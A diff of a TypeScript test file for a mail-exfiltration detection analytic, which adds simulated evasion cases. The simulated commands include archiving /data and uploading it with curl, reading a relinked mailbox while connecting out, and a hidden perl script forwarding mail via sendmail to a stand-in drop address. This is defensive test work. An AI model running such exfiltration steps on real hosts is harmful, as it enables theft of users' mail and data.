@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
+import { Process, SYSTEM } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
 import {
   DAY,
   type Delivered,
@@ -136,7 +136,57 @@ const EVASIONS: Readonly<Record<string, (facts: Facts) => void>> = {
     shim.run('/bin/tar cf /tmp/o /data').write('/tmp/o').read(mounted);
     shim.run('/usr/bin/curl -T /tmp/o http://x').read('/tmp/o').connect(OUT, 443);
   },
+  'a box by the name of a link to it': ({ log, shell }) => {
+    delivers(log);
+    log.records.move('/var/mail/clerk', '/home/clerk/logs/today');
+    shell.run('/usr/bin/node stat.js').read('/home/clerk/logs/today').connect(OUT, 8000);
+  },
+  'a script that hands each message to sendmail': ({ log, mine, shell }) => {
+    const script = shell.run('/usr/bin/perl .c.pl').read(mine.path);
+    log.wait(50);
+    script.run('/usr/sbin/sendmail -f a@example.org b@drop.example.net');
+  },
 };
+
+/** local(8) writes into the box of clerk, a file. */
+function delivers(log: HostLog): void {
+  const agent = log.records.nextPid();
+  new Process(log.records, agent, 900, '/usr/lib/postfix/sbin/local', { ...SYSTEM, uid: 1003 }).write(
+    '/var/mail/clerk',
+  );
+  log.wait(MINUTE);
+}
+
+test('the number of a box that is gone is no box any more', async () => {
+  const notes = '/home/clerk/logs/today';
+  for (const isTold of [true, false]) {
+    const { log, shell } = mailHost();
+    delivers(log);
+    log.records.reuse(notes, log.records.node('/var/mail/clerk', 1003));
+    if (isTold) shell.run('/usr/bin/rm /var/mail/clerk').unlink('/var/mail/clerk');
+    else shell.run('/usr/bin/touch logs/today').write(notes);
+    shell.run('/usr/bin/node stat.js').read(notes).connect(OUT, 8000);
+    atMostAt(await scanLog(log), 'informational');
+  }
+});
+
+test('what a shell, a program of a package or one without the mail starts is handed no mail', async () => {
+  const { log, mine, shell } = mailHost();
+  const installed = shell.run('/usr/bin/perl /usr/sbin/digest').read(mine.path);
+  log.wait(5000);
+  installed.run('/usr/sbin/sendmail b@drop.example.net');
+  log.wait(5000);
+  const script = shell.run('/bin/sh look.sh').read(mine.path);
+  log.wait(5000);
+  script.run('/usr/sbin/sendmail b@drop.example.net');
+  log.wait(5000);
+  const other = shell.run('/usr/bin/perl .c.pl');
+  other.run('/usr/sbin/sendmail b@drop.example.net');
+  atMostAt(
+    (await scanLog(log)).filter(alert => alert.analytic === 'AN1310'),
+    'informational',
+  );
+});
 
 for (const [says, act] of Object.entries(EVASIONS))
   test(`mail is carried off by ${says}`, async () => {
